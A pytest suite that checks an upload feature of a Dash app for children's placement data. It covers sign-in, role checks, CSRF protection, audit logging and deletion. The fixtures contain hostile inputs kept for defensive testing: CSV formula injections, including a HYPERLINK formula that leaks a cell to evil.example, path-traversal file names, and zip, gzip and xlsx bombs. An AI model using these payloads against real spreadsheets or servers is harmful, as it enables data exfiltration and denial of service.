"""Hostile uploads, through the real app's upload callback and directly against app/data/uploads.py.

Oversized, binary, zip bombs and gzip named .csv, CSV (formula) injection and path-traversal
names: each is refused or neutralised, nothing leaks in the response, nothing already stored is
lost, and "delete this dataset" really removes the files.
"""

from __future__ import annotations

import base64
import gzip
import io
import shutil
import stat
import zipfile
from pathlib import Path

import pytest

from app import auth
from app.auth import AuditLog, Event
from app.data import uploads
from app.ids import Id
from app.settings import Settings
from benchmarks.load_test import callback_body
from geo.errors import InputError
from tests.app.auth.test_auth import PASSWORDS, sign_in, users_template

__all__ = ["users_template"]

GOOD = (
    b"CHILD,HOME_POST,PL_POST,DECOM\n"
    b"C1,ME14 1XQ,CT1 2RX,01/04/2018\n"
    b"C2,ME14 1XQ,TN1 1RS,=1+1\n"  # rejected row: its value must be neutralised on export
    b"C3,CT20 2QY,DA1 1DR,-2+3\n"
    b"=2+5,TN13 1HG,DA11 0DQ,01/04/2018\n"
    b'C5,"=HYPERLINK(""http://evil.example/?x=""&A1)",ME4 4TR,01/04/2018\n'
    b"@SUM(1),ME14 1XQ,ME4 4TR,02/04/2018\n"
)
LEAKS = ("Traceback", 'File "', "/tmp/", "site-packages", "Error:", "up-")


def data_url(raw: bytes, mime: str = "text/csv") -> str:
    return f"data:{mime};base64," + base64.b64encode(raw).decode()


def zip_bomb() -> bytes:
    """64 MiB of zeros in a ~65 KB zip, named like a CSV."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("episodes.csv", b"0" * (64 * 1024 * 1024))
    return buf.getvalue()


@pytest.fixture(scope="module")
def env(tmp_path_factory, users_template, app_cache_dir):
    """The real app (built once per module: Dash keeps page callbacks in a global list)."""
    from app.main import create_app

    root = tmp_path_factory.mktemp("uploads-app")
    (root / "state").mkdir(mode=0o700)
    shutil.copy(users_template, root / "state" / "users.json")
    settings = Settings(
        cache_dir=app_cache_dir,  # the demo, generated once per test session
        upload_dir=root / "uploads",
        max_upload_mb=1,
        secret_key="k" * 40,
        extra={"users_file": str(root / "state" / "users.json")},
    )
    app = create_app(settings)
    return app, settings


class Session:
    """A signed-in browser, as far as the server can tell: cookies, CSRF header, callbacks."""

    def __init__(self, app, name: str | None) -> None:
        self.app = app
        self.client = app.server.test_client()
        if name:
            assert sign_in(self.client, name, PASSWORDS[name]).status_code == 302
        self.deps = (
            {d["output"]: d for d in self.client.get("/_dash-dependencies").get_json() or []}
            if name
            else {}
        )

    def callback(self, output_part: str, values: dict[str, object]):
        body = callback_body(
            self.deps or {d["output"]: d for d in _deps(self.app)}, output_part, values
        )
        cookie = self.client.get_cookie(auth.CSRF_COOKIE)
        return self.client.post(
            "/_dash-update-component",
            json=body,
            headers={auth.CSRF_HEADER: cookie.value if cookie else ""},
        )

    def upload(self, files: list[tuple[str, bytes]]):
        return self.callback(
            f"{Id.DT_PENDING}.data",
            {
                f"{Id.DT_UPLOAD_PLACEMENTS}.contents": [data_url(raw) for _, raw in files],
                f"{Id.DT_UPLOAD_PLACEMENTS}.filename": [name for name, _ in files],
            },
        )


def _deps(app):
    client = app.server.test_client()
    sign_in(client, "ana", PASSWORDS["ana"])
    return client.get("/_dash-dependencies").get_json()


def stored(settings: Settings) -> set[str]:
    root = Path(settings.upload_dir)
    return {p.name for p in root.iterdir()} if root.exists() else set()


def response_text(r) -> str:
    return r.get_data(as_text=True)


def pending_id(r) -> str | None:
    return (r.get_json().get("response", {}).get(Id.DT_PENDING) or {}).get("data")


# -- through the app ----------------------------------------------------------------------------
def test_every_page_and_callback_refused_without_sign_in(env):
    app, _ = env
    import dash

    client = app.server.test_client()
    deps = _deps(app)
    for page in dash.page_registry.values():
        r = client.get(page["path"], headers={"Accept": "text/html"})
        assert r.status_code == 302 and r.headers["Location"].startswith("/login"), page["path"]
    for path in ("/_dash-layout", "/_dash-dependencies", "/admin/audit.csv"):
        assert client.get(path).status_code == 401
    for dep in deps:
        r = client.post(
            "/_dash-update-component",
            json={"output": dep["output"], "inputs": [], "state": [], "changedPropIds": []},
        )
        assert r.status_code == 401 and r.get_json() == {"error": "Sign in first."}, dep


def test_commissioner_cannot_upload_or_export_child_rows_via_the_callback_endpoint(env):
    app, settings = env
    before = stored(settings)
    cora = Session(app, "cora")
    r = cora.upload([("episodes.csv", GOOD)])
    assert r.status_code == 403 and "C1" not in response_text(r)
    assert stored(settings) == before
    ana = Session(app, "ana")
    dataset = pending_id(ana.upload([("episodes.csv", GOOD)]))
    assert uploads.is_upload_id(dataset)
    r = cora.callback(
        f"{Id.DT_REJECTS_DL}.data",
        {f"{Id.DT_REJECTS_BTN}.n_clicks": 1, f"{Id.DT_PENDING}.data": dataset},
    )
    assert r.status_code == 403
    assert "=1+1" not in response_text(r) and "rejected" not in response_text(r)
    # the data page itself is not built for a commissioner
    page = cora.callback(
        "_pages_content.children",
        {"_pages_location.pathname": "/data", "_pages_location.search": ""},
    )
    assert "not-permitted" in response_text(page) and Id.DT_UPLOAD_PLACEMENTS not in response_text(
        page
    )
    denied = [
        e
        for e in AuditLog(auth.state(app.server).config.audit_log)
        if e["event"] == Event.ACCESS_DENIED and e["user"] == "cora"
    ]
    assert len(denied) >= 3


def test_analyst_upload_is_stored_privately_and_audited(env):
    app, settings = env
    ana = Session(app, "ana")
    r = ana.upload([("../../etc/passwd.csv", GOOD)])
    assert r.status_code == 200
    dataset = pending_id(r)
    folder = Path(settings.upload_dir) / dataset
    assert sorted(p.name for p in folder.iterdir()) == ["episodes.csv", uploads.META]
    assert (folder / "episodes.csv").read_bytes() == GOOD  # stored as sent, never evaluated
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((folder / "episodes.csv").stat().st_mode) == 0o600
    assert stat.S_IMODE(Path(settings.upload_dir).stat().st_mode) == 0o700
    assert not Path("/etc/passwd.csv").exists()
    text = response_text(r)
    assert "../" not in text and "passwd.csv" in text  # the display name has no directories
    audit = [
        e
        for e in AuditLog(auth.state(app.server).config.audit_log)
        if e["event"] == Event.UPLOAD and e["dataset"] == dataset
    ]
    assert audit and audit[0]["user"] == "ana" and audit[0]["detail"]["files"]


def test_csv_injection_is_never_evaluated_and_neutralised_on_export(env):
    app, _ = env
    ana = Session(app, "ana")
    dataset = pending_id(ana.upload([("episodes.csv", GOOD)]))
    r = ana.callback(
        f"{Id.DT_REJECTS_DL}.data",
        {f"{Id.DT_REJECTS_BTN}.n_clicks": 1, f"{Id.DT_PENDING}.data": dataset},
    )
    assert r.status_code == 200
    sent = r.get_json()["response"][Id.DT_REJECTS_DL]["data"]
    csv_text = base64.b64decode(sent["content"]).decode() if sent.get("base64") else sent["content"]
    assert "'=1+1" in csv_text and "'-2+3" in csv_text
    assert ",=" not in csv_text and ",-2" not in csv_text and ",+" not in csv_text
    ds = app.server.config["PLACEMAP_STORE"].get(dataset)
    assert "=2+5" in set(ds.data.episodes["CHILD"])  # kept as text, not 7
    exports = [
        e
        for e in AuditLog(auth.state(app.server).config.audit_log)
        if e["event"] == Event.EXPORT and e["dataset"] == dataset
    ]
    assert exports and exports[0]["detail"]["filename"] == "rejected.csv"


@pytest.mark.parametrize(
    "name,raw,reason",
    [
        ("episodes.csv", zip_bomb(), "zip archive"),
        ("episodes.csv", gzip.compress(b"0" * (16 * 1024 * 1024)), "gzip archive"),
        ("episodes.csv", b"CHILD,HOME_POST\x00\x01\x02" * 100, "binary data"),
        ("episodes.csv", b"\x80\x04\x95" + b"pickle" * 10, "pickle"),
        ("episodes.csv", b"CHILD,HOME_POST,PL_POST\n" + b"C,ME14 1XQ,CT1 2RX\n" * 70000, "limit"),
    ],
)
def test_hostile_uploads_refused_with_nothing_leaked_or_lost(env, name, raw, reason):
    app, settings = env
    ana = Session(app, "ana")
    keep = pending_id(ana.upload([("episodes.csv", GOOD)]))
    before = stored(settings)
    r = ana.upload([(name, raw)])
    assert r.status_code in (200, 413)
    text = response_text(r)
    assert reason in text
    assert not any(leak in text for leak in LEAKS)
    assert pending_id(r) is None if r.status_code == 200 else True
    assert stored(settings) == before  # nothing new on disk ...
    assert (Path(settings.upload_dir) / keep / "episodes.csv").read_bytes() == GOOD  # ... or lost
    refused = [
        e
        for e in AuditLog(auth.state(app.server).config.audit_log)
        if e["event"] == Event.UPLOAD_REFUSED
    ]
    assert refused


def test_request_larger_than_the_limit_is_refused_before_parsing(env):
    app, settings = env
    ana = Session(app, "ana")
    before = stored(settings)
    huge = b"CHILD,HOME_POST,PL_POST\n" + b"C,ME14 1XQ,CT1 2RX\n" * 300_000  # ~5.7 MB > 4 x 1 MB
    r = ana.upload([("episodes.csv", huge)])
    assert r.status_code == 413 and "1 MB limit" in r.get_json()["error"]
    assert stored(settings) == before


def test_delete_this_dataset_really_removes_it(env):
    app, settings = env
    ana = Session(app, "ana")
    dataset = pending_id(ana.upload([("episodes.csv", GOOD)]))
    folder = Path(settings.upload_dir) / dataset
    assert folder.is_dir()
    store = app.server.config["PLACEMAP_STORE"]
    cora = Session(app, "cora")
    token = cora.client.get_cookie(auth.CSRF_COOKIE).value
    assert (
        cora.client.post(
            f"/datasets/{dataset}/delete", headers={auth.CSRF_HEADER: token}
        ).status_code
        == 403
    )
    assert folder.is_dir()
    token = ana.client.get_cookie(auth.CSRF_COOKIE).value
    assert ana.client.post(f"/datasets/{dataset}/delete").status_code == 403  # no CSRF token
    r = ana.client.post(f"/datasets/{dataset}/delete", headers={auth.CSRF_HEADER: token})
    assert r.status_code == 200 and r.get_json() == {"deleted": dataset}
    assert not folder.exists()
    assert not any(dataset in p.name for p in Path(settings.upload_dir).iterdir())
    assert store.get(dataset).id != dataset  # falls back to the default dataset
    assert (
        ana.client.post(
            f"/datasets/{dataset}/delete", headers={auth.CSRF_HEADER: token}
        ).status_code
        == 404
    )
    assert ana.client.post(
        "/datasets/..%2F..%2Fetc/delete", headers={auth.CSRF_HEADER: token}
    ).status_code in (404, 405)
    assert any(
        e["event"] == Event.DATASET_DELETED and e["dataset"] == dataset
        for e in AuditLog(auth.state(app.server).config.audit_log)
    )


def test_a_worker_that_never_saw_an_upload_loads_it_from_disk(env):
    app, settings = env
    from app.data.store import DatasetStore

    ana = Session(app, "ana")
    dataset = pending_id(ana.upload([("episodes.csv", GOOD)]))
    other_worker = DatasetStore(settings)
    ds = other_worker.get(dataset)
    assert ds.id == dataset and ds.label == "Uploaded: episodes.csv"
    assert len(ds.data.episodes) == len(
        app.server.config["PLACEMAP_STORE"].get(dataset).data.episodes
    )
    uploads.delete_upload(Path(settings.upload_dir), dataset)
    assert other_worker.get(dataset).id != dataset  # deleted elsewhere: forgotten here too


# -- app/data/uploads.py directly ------------------------------------------------------------------
def test_decode_refuses_before_decoding_an_oversized_upload():
    big = data_url(b"a,b\n" * 300_000)
    with pytest.raises(InputError, match="1 MB limit"):
        uploads.decode_contents(big, name="episodes.csv", max_bytes=1024 * 1024)
    with pytest.raises(InputError, match="not a data URL"):
        uploads.decode_contents("no comma here", name="x.csv", max_bytes=10)
    with pytest.raises(InputError, match="base64"):
        uploads.decode_contents("data:text/csv;base64,@@@@", name="x.csv", max_bytes=100)


def test_safe_name_never_keeps_directories():
    assert uploads.safe_name("../../etc/passwd.csv") == "passwd.csv"
    assert uploads.safe_name("..\\..\\Windows\\win.ini") == "win.ini"
    assert uploads.safe_name("/") == "upload.csv"
    assert uploads.safe_name("a\x00b\nc.csv") == "a_b_c.csv"


def test_store_upload_is_all_or_nothing(tmp_path):
    with pytest.raises(InputError, match="Could not tell"):
        uploads.store_upload(tmp_path, [("episodes.csv", GOOD), ("notes.csv", b"x,y\n1,2\n")])
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(InputError, match="No placements table"):
        uploads.store_upload(tmp_path, [("carers.csv", b"CARER_ID,APPROVED_PLACES\n1,2\n")])
    assert list(tmp_path.iterdir()) == []


def test_ids_never_name_paths(tmp_path):
    (tmp_path / "outside").mkdir()
    for bad in ("../outside", "up-../../etc", "up-0123456789AB", "", "up-0123456789abc"):
        assert uploads.open_upload(tmp_path / "root", bad) is None
        assert uploads.delete_upload(tmp_path / "root", bad) is False
    assert (tmp_path / "outside").is_dir()


def test_upload_root_is_private_and_cleans_interrupted_uploads(tmp_path):
    import os

    settings = Settings(upload_dir=tmp_path / "u")
    root = uploads.upload_root(settings)
    stale = root / ".tmp-up-0123456789ab"
    stale.mkdir()
    os.utime(stale, (0, 0))
    fresh = root / ".tmp-up-ba9876543210"
    fresh.mkdir()
    uploads.upload_root(settings)
    assert not stale.exists() and fresh.exists()  # a fresh one may be an upload in progress
    assert stat.S_IMODE(root.stat().st_mode) == 0o700


def test_xml_return_and_xlsx_workbook_uploads_load_like_the_csv_set(tmp_path):
    """The app's upload takes the files a council has: the DfE XML return and a workbook."""
    from app.data.store import load_dataset
    from app.data.uploads import store_upload
    from geo.measures.analysis import analyse
    from geo.spatial.authority import load_authority
    from tests.geo.ssda903.test_xml_return import kent_children, write_xlsx, xml_text

    children = kent_children()
    kent = load_authority()
    results = []
    for name, raw in [
        ("return.xml", xml_text(children).encode("utf-8")),
        ("return.xlsx", write_xlsx(tmp_path / "r.xlsx", children).read_bytes()),
    ]:
        stored = store_upload(tmp_path / "uploads", [(name, raw)])
        ds = load_dataset(stored.files, label=name, synthetic=False, dataset_id=stored.dataset_id)
        a = analyse(ds.data, kent)
        results.append(a.compliance_home.to_csv(index=False))
        assert a.summary["children_in_census"] > 0
    assert results[0] == results[1]


def test_xlsx_bomb_is_refused_unopened():
    import io
    import zipfile

    from app.data.uploads import decode_contents

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/workbook.xml", b"<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", b"0" * (32 * 1024 * 1024))
    url = "data:application/octet-stream;base64," + base64.b64encode(buf.getvalue()).decode()
    with pytest.raises(InputError, match="unpacks to .* limits for a workbook"):
        decode_contents(url, name="episodes.xlsx", max_bytes=20 * 1024 * 1024)
